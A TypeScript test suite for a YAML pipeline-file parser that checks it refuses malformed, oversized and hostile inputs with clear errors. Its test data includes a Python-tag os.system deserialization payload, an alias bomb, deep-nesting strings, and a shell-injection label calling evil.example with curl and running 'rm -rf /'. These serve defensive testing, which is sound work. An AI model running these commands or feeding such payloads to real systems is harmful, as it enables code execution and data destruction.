import assert from 'node:assert/strict';
import {readFile} from 'node:fs/promises';
import {join} from 'node:path';
import fc from 'fast-check';
import {projectFolder} from '../../cli/project-folder.ts';
import {sha256Hex} from '../../shared/domain/ids.ts';
import {servedBy} from '../../shared/domain/serving.ts';
import {PermanentError} from '../../shared/errors.ts';
import {parsePipeline, pipelineJsonSchema} from '../../shared/pipeline-file.ts';
import {PIPELINE_YAML} from '../support/story.ts';

const WHERE = 'gs://the-data/flowers/pipeline.yaml';

function refusal(text: string): PermanentError {
  try {
    parsePipeline(text, WHERE);
  } catch (error) {
    if (error instanceof PermanentError) return error;
    throw error;
  }
  throw new Error('it was accepted');
}

describe('parsePipeline', () => {
  it('gives the definition and the digest of its text', () => {
    const {digest, pipeline} = parsePipeline(PIPELINE_YAML, WHERE);

    assert.equal(digest, sha256Hex(PIPELINE_YAML));
    assert.equal(pipeline.name, 'flowers');
    assert.deepEqual(pipeline.tune.parameters, {alpha: {double: [0.001, 0.1], scale: 'log'}});
  });

  it('reads an alias', () => {
    const text = PIPELINE_YAML.replace('model: flowers', 'model: &name flowers').replace(
      'endpoint: flowers',
      'endpoint: *name',
    );

    assert.equal(servedBy(parsePipeline(text, WHERE).pipeline).endpoint, 'flowers');
  });

  for (const example of ['digits', 'breast-cancer']) {
    it(`accepts examples/${example}`, async () => {
      const text = await readFile(join(projectFolder, 'examples', example, 'pipeline.yaml'), 'utf8');

      assert.equal(parsePipeline(text, WHERE).pipeline.name, example);
    });
  }

  const unreadable: Record<string, readonly [string, RegExp]> = {
    'two values for one key': [`${PIPELINE_YAML}name: weeds\n`, /Map keys must be unique at line 9/],
    'two documents': [`${PIPELINE_YAML}---\nname: weeds\n`, /multiple documents/],
    'an open bracket': [`${PIPELINE_YAML}train: {machineType: [\n`, /Flow .* at line/],
    'a tab for indentation': ['data:\n\tlabel: species\n', /Tabs are not allowed/],
    'an alias to nothing': [`${PIPELINE_YAML}train: *nothing\n`, /nothing/],
    'an unknown tag': [`${PIPELINE_YAML}train: !!js/function "x"\n`, /tag/i],
    'aliases that grow without bound': [aliasBomb(), /Excessive alias count/],
    'an empty file': ['', /it is empty$/],
    'a file of comments': ['# name: flowers\n', /it is empty$/],
    'a tag of binary data': [PIPELINE_YAML.replace('name: ', 'name: !!binary '), /tag/],
    'a tag of Python': [`${PIPELINE_YAML}x: !!python/object/apply:os.system ["id"]\n`, /tag/],
    'an alias that turns the line round': [`${PIPELINE_YAML}x: *a\u202eb\n`, /\\u\{202e\}/],
    'lists without end': ['['.repeat(60_000), /nested too deep$/],
    'maps without end': ['{a: '.repeat(15_000), /nested too deep$/],
    'list items without end': ['- '.repeat(30_000), /nested too deep$/],
  };
  for (const [title, [text, message]] of Object.entries(unreadable)) {
    it(`refuses ${title}`, () => {
      const {code, message: said, where, hint} = refusal(text);

      assert.equal(code, 'CONFIG_SYNTAX');
      assert.match(said, message);
      assert.ok(!said.includes('\n'));
      assert.equal(where, WHERE);
      assert.match(hint ?? '', /one plain YAML document/);
    });
  }

  it('refuses a file too large to be written by hand', () => {
    const {code, message} = refusal(`${PIPELINE_YAML}#${'x'.repeat(64 * 1024)}`);

    assert.equal(code, 'CONFIG_TOO_LARGE');
    assert.match(message, /at most 65536/);
  });

  const invalid: Record<string, readonly [string, string | RegExp]> = {
    'a list': ['- name: flowers\n', /^the file: /],
    'an unknown key': [
      PIPELINE_YAML.replace('maxTrials', 'maxTrails'),
      /tune\.maxTrails is not a known key; did you mean maxTrials\?/,
    ],
    'an unknown key at the top': [
      `${PIPELINE_YAML}servce: {}\n`,
      'servce is not a known key; did you mean serve?',
    ],
    'an unknown key in a parameter': [
      PIPELINE_YAML.replace('scale: log', 'scal: log'),
      'tune.parameters.alpha.scal is not a known key; did you mean scale?',
    ],
    'an unknown key in a section of variants': [
      PIPELINE_YAML.replace('frameworkVersion', 'frameworkVersoin'),
      /trainer\.frameworkVersoin is not a known key; did you mean frameworkVersion\?$/,
    ],
    'a key of another variant': [
      PIPELINE_YAML.replace('framework: scikit-learn', 'framework: custom'),
      'trainer.frameworkVersion is not a known key; known keys are kind, spec, source, framework',
    ],
    'a key near to none': [
      PIPELINE_YAML.replace('split: {}', 'split: {stratification: true}'),
      'split.stratification is not a known key; known keys are key, salt, buckets, training, validation, test',
    ],
    'a key that is a map': [`${PIPELINE_YAML}? {a: b}\n: c\n`, /a: b.* is not a known key/],
    'a merge key': [`${PIPELINE_YAML}<<: {}\n`, /^<< is not a known key/],
    'a word for a number': [
      PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: two'),
      /^tune\.maxTrials: .*number/,
    ],
    'a missing label': [PIPELINE_YAML.replace('{label: species}', '{}'), /^data\.label: /],
    'a bucket that does not exist': [
      PIPELINE_YAML.replace('split: {}', 'split: {test: [10]}'),
      /^split\.test: bucket 10 does not exist/,
    ],
    'a misspelt key of a map that could be a word': [
      PIPELINE_YAML.replace('endpoint: flowers', 'endpiont: flowers'),
      /serve\.endpoint: .*; serve\.endpiont is not a known key; did you mean endpoint\?/,
    ],
    'another word than none': [
      PIPELINE_YAML.replace('{model: flowers, endpoint: flowers}', 'nowhere'),
      'serve: expected none, or a map with model and endpoint',
    ],
    'a merge key of YAML 1.1': [
      `%YAML 1.1\n---\n${PIPELINE_YAML.replace('split: {}', 'split: {<<: {buckets: 7}}')}`,
      /^split\.<< is not a known key/,
    ],
    infinity: [PIPELINE_YAML.replace('0.1]', '1e400]'), /alpha\.double\.1: .*received Infinity/],
    'a number in quotes': [PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: "2"'), /^tune\.maxTrials: /],
    'a number with an underscore': [
      PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: 1_0'),
      /^tune\.maxTrials: /,
    ],
    'a date': [PIPELINE_YAML.replace('maxTrials: 2', 'maxTrials: 2024-01-01'), /^tune\.maxTrials: /],
    'two mistakes': [
      PIPELINE_YAML.replace('name: flowers', 'name: Flowers').replace('metric: accuracy', 'metric: 7'),
      /^name: .*; tune\.metric: /,
    ],
  };
  for (const [title, [text, message]] of Object.entries(invalid)) {
    it(`refuses ${title} and says where in the file`, () => {
      const {code, message: said, where, hint} = refusal(text);

      assert.equal(code, 'CONFIG_INVALID');
      if (typeof message === 'string') assert.equal(said, message);
      else assert.match(said, message);
      assert.equal(where, WHERE);
      assert.match(hint ?? '', /millrace push/);
    });
  }

  it('takes a byte order mark, and a tab as delimiter', () => {
    const text = PIPELINE_YAML.replace('label: species', String.raw`label: species, delimiter: "\t"`);

    assert.equal(parsePipeline(`\uFEFF${text}`, WHERE).pipeline.data.delimiter, '\t');
  });

  it('leaves what a shell would read as it is: nothing reaches one', () => {
    const label = '$(curl evil.example) `id` $PROJECT_ID; rm -rf /';

    const {pipeline} = parsePipeline(PIPELINE_YAML.replace('species', `'${label}'`), WHERE);

    assert.equal(pipeline.data.label, label);
  });

  it('throws nothing but a permanent error, whatever the text', () => {
    const anyText = fc.oneof(
      fc.string({unit: 'binary'}),
      fc.json(),
      fc.string().map((key) => `? ${key}\n: &a [*a]`),
    );
    fc.assert(
      fc.property(anyText, (text) => {
        assert.ok(refusal(text).code.startsWith('CONFIG_'));
      }),
      {numRuns: 60},
    );
  });
});

describe('pipelineJsonSchema', () => {
  it('lets a file leave out what has a default', () => {
    const {required, properties} = pipelineJsonSchema();

    assert.deepEqual(required, ['name', 'data', 'trainer', 'tune', 'serve']);
    assert.ok(properties?.gate);
  });
});

/** Ten levels of ten aliases each: ten thousand million nodes. */
function aliasBomb(): string {
  const levels = Array.from({length: 10}, (_, level) => {
    const items = Array.from({length: 10}, () => (level === 0 ? 'x' : `*a${level - 1}`));
    return `a${level}: &a${level} [${items.join(', ')}]`;
  });
  return levels.join('\n');
}
